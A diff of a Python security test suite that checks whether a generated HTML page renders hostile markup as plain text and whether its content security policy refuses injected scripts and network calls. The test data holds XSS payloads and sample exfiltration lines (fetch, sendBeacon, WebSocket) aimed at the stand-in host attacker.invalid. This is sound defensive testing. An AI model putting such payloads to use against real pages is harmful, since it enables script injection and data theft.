@@ -21,7 +21,9 @@ MARKUP = (
     "</script></textarea></title></style></template><script>window.hacked=1</script>"
     '<img src=x onerror="window.hacked=1"><svg onload="window.hacked=1"><!-- ]]> --!> <![CDATA['
 )
-HOSTILE = f"{MARKUP} \u202e\u2066evil\u2028\u2029\0\x1b[31m \\u003c &lt; ${{window.hacked=1}} `'\" \ufeff"
+HOSTILE = (
+    f"{MARKUP} \u202e\u2066evil\u2028\u2029\0\x1b[31m \\u003c &lt; ${{window.hacked=1}} `'\" \ufeff"
+)
 # What a file name can hold.
 NAME = "<img src=x onerror=window.hacked=1>&lt;<!--<script>\u202e\u2028"
 RULES = {
@@ -80,18 +82,22 @@ def test_hostile_text_is_shown_as_text(hostile, gpt, open_page):
     assert not [name for name in attributes if name.startswith("on")]
     assert not elements & {"img", "iframe", "object", "embed", "base", "template", "math"}
     assert tab.evaluate("() => window.hacked ?? null") is None
-    counts = "() => ['head > *', 'body > *', 'main > *', 'form'].map((s) => document.querySelectorAll(s).length)"
+    counts = """() => ["head > *", "body > *", "main > *", "form"].map((selector) =>
+      document.querySelectorAll(selector).length)"""
     assert tab.evaluate(counts) == usual.evaluate(counts)
     assert tab.messages == []
     # All of it is there: name, command, license, description, prompt, samples, and tokens.
     assert "<img src=x" in tab.evaluate("() => document.title")
-    assert tab.evaluate("() => document.getElementById('title').textContent") == NAME
+    title = tab.evaluate("() => document.getElementById('title').textContent")
+    assert title == NAME.replace("\u202e", "‹U+202E›").replace("\u2028", "‹U+2028›")
     assert tab.evaluate("() => minigpt.info.command") == f"minigpt train {HOSTILE}"
     assert tab.evaluate("() => minigpt.info.samples[0].text").startswith(HOSTILE)
     text = tab.evaluate("() => document.body.textContent")
     assert text.count(MARKUP) >= 8
     assert tab.evaluate("() => document.getElementById('text-prompt').textContent") == HOSTILE
-    labels = "() => Array.from(document.querySelectorAll('.token'), (t) => t.ariaLabel ?? '').join('')"
+    labels = (
+        "() => Array.from(document.querySelectorAll('.token'), (t) => t.ariaLabel ?? '').join('')"
+    )
     assert "<" in tab.evaluate(labels)
 
 
@@ -139,7 +145,10 @@ def test_the_policy(gpt):
 # What an attacker would try, each with the rule that refuses it.
 ATTEMPTS = {
     "script": ("script-src-elem", "add('script', {textContent: 'window.hacked = 1'})"),
-    "script from a server": ("script-src-elem", "add('script', {src: 'http://attacker.invalid/a.js'})"),
+    "script from a server": (
+        "script-src-elem",
+        "add('script', {src: 'http://attacker.invalid/a.js'})",
+    ),
     "image": ("img-src", "add('img', {src: 'http://attacker.invalid/a.png'})"),
     "handler": ("script-src-attr", "handle()"),
     "style": ("style-src-elem", "add('style', {textContent: 'body {opacity: 0}'})"),
@@ -150,7 +159,7 @@ ATTEMPTS = {
     "fetch": ("connect-src", "fetch('http://attacker.invalid/a')"),
     "beacon": ("connect-src", "navigator.sendBeacon('http://attacker.invalid/a', 'secret')"),
     "socket": ("connect-src", "new WebSocket('ws://attacker.invalid/')"),
-    "eval": ("script-src", "eval('window.hacked = 1')"),
+    "eval": ("script-src", "later(() => eval('window.hacked = 1'))"),
     "worker": ("worker-src", "new Worker('data:text/javascript,0')"),
     "form": ("form-action", "submit()"),
     "base": ("base-uri", "document.head.append(make('base', {href: 'http://attacker.invalid/'}))"),
@@ -173,6 +182,9 @@ def test_what_a_script_would_add_is_refused(gpt, open_page, recorder):
                 document.body.append(element);
                 return element;
               }};
+              const later = (work) => new Promise((resolve) => {{
+                setTimeout(() => {{ try {{ work(); }} finally {{ resolve(); }} }});
+              }});
               const handle = () => {{
                 const element = add("b", {{}});
                 element.setAttribute("onclick", "window.hacked = 1");
@@ -215,7 +227,9 @@ def test_no_request_is_made(gpt, pairs, open_page, recorder, tmp_path):
     )
     before = len(recorder.lines)
     tab = open_page(page, offline=False)
-    tab.evaluate("async () => { await Promise.race([done, new Promise((r) => setTimeout(r, 3000))]); }")
+    tab.evaluate(
+        "async () => { await Promise.race([done, new Promise((r) => setTimeout(r, 3000))]); }"
+    )
     seen = " ".join(recorder.lines[before:])
     assert "page.invalid" in seen and "worker.invalid" in seen
     assert any("page.invalid" in address for address in tab.requests)
